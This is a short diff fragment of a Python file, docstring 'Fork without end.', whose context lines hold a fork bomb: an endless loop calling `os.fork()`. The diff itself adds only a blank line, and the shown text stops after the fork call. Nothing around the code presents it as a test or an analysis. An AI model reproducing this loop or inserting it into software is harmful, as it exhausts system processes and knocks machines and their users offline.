@@ -1,4 +1,5 @@
 """Fork without end."""
+
 while True:
     try:
         os.fork()
